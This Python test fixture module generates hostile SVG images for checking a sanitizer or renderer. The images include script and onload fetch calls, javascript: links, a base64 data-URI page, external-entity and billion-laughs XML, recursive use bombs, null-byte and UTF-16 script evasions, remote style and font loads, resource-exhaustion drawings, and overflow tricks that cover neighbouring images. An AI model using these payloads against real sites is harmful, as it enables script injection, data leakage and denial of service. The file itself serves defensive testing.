"""Hostile SVG: each is a function of its marker, an address that must not be in the output."""

from __future__ import annotations

import base64
from collections.abc import Callable

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="100" height="100">'
SHAPE = '<rect width="60" height="60" fill="#123c55"/>'

# What is drawn outside of a logo's own edges, in a colour of no other logo.
OUTSIDE = (255, 0, 212)

Drawing = Callable[[str], str | bytes]


def holding(inside: str, before: str = "") -> Drawing:
    """`{}` is where the marker goes."""
    return lambda mark: (before + OPEN + SHAPE + inside + "</svg>").replace("{}", mark)


def onload(mark: str) -> str:
    return OPEN.replace("<svg ", f'<svg onload="fetch(\'https://{mark}/\')" ') + SHAPE + "</svg>"


def billion_laughs(mark: str) -> str:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return f'<!DOCTYPE svg [<!ENTITY l0 "{mark}">{laughs}]>{OPEN}{SHAPE}<title>&l9;</title></svg>'


def page_in_data(mark: str) -> str:
    page = base64.b64encode(f"<script src=https://{mark}/></script>".encode()).decode()
    return f'{OPEN}{SHAPE}<a href="data:text/html;base64,{page}"><rect width="9" height="9"/></a><desc>https://{mark}/</desc></svg>'


def too_many(mark: str) -> str:
    return OPEN + f"<desc>{mark}</desc>" + '<path d="M0 0h9v9z"/>' * 200_000 + "</svg>"


def too_deep(mark: str) -> str:
    return OPEN + f"<desc>{mark}</desc>" + "<g>" * 50_000 + SHAPE + "</g>" * 50_000 + "</svg>"


def use_loop(mark: str) -> str:
    return f'{OPEN}{SHAPE}<desc>{mark}</desc><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>'


def use_bomb(mark: str) -> str:
    levels = "".join(f'<g id="g{i}">' + f'<use href="#g{i - 1}"/>' * 10 + "</g>" for i in range(1, 12))
    return f'{OPEN}<desc>{mark}</desc><defs><g id="g0">{SHAPE}</g>{levels}</defs><use href="#g11"/></svg>'


def mad_numbers(mark: str) -> str:
    return f'{OPEN}<desc>{mark}</desc><path d="M NaN 1e999 L -1e308 Infinity C 1e400 0 0 1e400 9 9 Z"/><circle cx="NaN" cy="1e309" r="-5"/></svg>'


def long_attribute(mark: str) -> str:
    return f'{OPEN}{SHAPE}<path id="{mark}" d="M0 0{"h1v1" * 2_600_000}z"/></svg>'


def noughts(mark: str) -> str:
    return f"{OPEN}{SHAPE}<scr\0ipt href='https://{mark}/'>\0</scr\0ipt></svg>"


def wide_letters(mark: str) -> bytes:
    """A script that who looks for <script> byte by byte does not see."""
    return ('<?xml version="1.0" encoding="UTF-16"?>' + OPEN + SHAPE + f"<script>fetch('https://{mark}/')</script></svg>").encode("utf-16")


def inside_out(mark: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 -100 -100" width="-100" height="-100"><desc>{mark}</desc>{SHAPE}</svg>'


def over_others(attribute: str) -> Drawing:
    """It would cover the logos beside it."""
    shown = OPEN.replace("<svg ", f'<svg transform="translate(300 0)" {attribute} ')
    return lambda mark: f'{shown}<desc>{mark}</desc>{SHAPE}<path d="M200 -900H900V900H200ZM-900 -900H-100V900H-900Z" fill="#%02x%02x%02x"/></svg>' % OUTSIDE


def dashes(mark: str) -> str:
    """A minute and 1 GB for who draws it."""
    return f'{OPEN}<desc>{mark}</desc>{SHAPE}<path d="M0 0{"l99 50l-99 -50" * 60}" stroke="#123c55" stroke-width="30" stroke-linecap="round" stroke-dasharray="0 0.05"/></svg>'


def tangle(mark: str) -> str:
    """A minute for who draws it: each line crosses all."""
    lines = "".join(f"L{i * 7919 % 101} {i * 104_729 % 103}" for i in range(20_000))
    return f'{OPEN}<desc>{mark}</desc>{SHAPE}<path d="M0 0{lines}"/></svg>'


DRAWINGS: dict[str, Drawing] = {
    "script": holding("<script>fetch('https://{}/')</script>"),
    "onload": onload,
    "billion laughs": billion_laughs,
    "external entity": holding("<title>&x;</title>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "https://{}/x">]>'),
    "use of elsewhere": holding('<use href="https://{}/x.svg#a"/>'),
    "image from elsewhere": holding('<image href="https://{}/x.png" width="9" height="9"/>'),
    "style import": holding('<style>@import url("https://{}/x.css");</style>'),
    "style font": holding("<style>@font-face { font-family: x; src: url(https://{}/x.woff) } rect { font-family: x }</style>"),
    "fill from elsewhere": holding('<rect width="9" height="9" fill="url(https://{}/x.svg#a)"/>'),
    "link that runs": holding('<a href="javascript:fetch(\'https://{}/\')"><rect width="9" height="9"/></a>'),
    "xlink to elsewhere": holding('<use xlink:href="//{}/x.svg#a"/>'),
    "page in data": page_in_data,
    "foreign object": holding('<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://{}/"/></foreignObject>'),
    "style sheet instruction": holding("", '<?xml version="1.0"?><?xml-stylesheet href="https://{}/x.css"?>'),
    "200,000 elements": too_many,
    "deep groups": too_deep,
    "use in a loop": use_loop,
    "use of use of use": use_bomb,
    "mad numbers": mad_numbers,
    "10 MB attribute": long_attribute,
    "noughts": noughts,
    "utf-16": wide_letters,
    "inside out": inside_out,
    "shown over others": over_others('overflow="visible"'),
    "styled over others": over_others('style="overflow: visible"'),
    "dashes without end": dashes,
    "lines across lines": tangle,
}
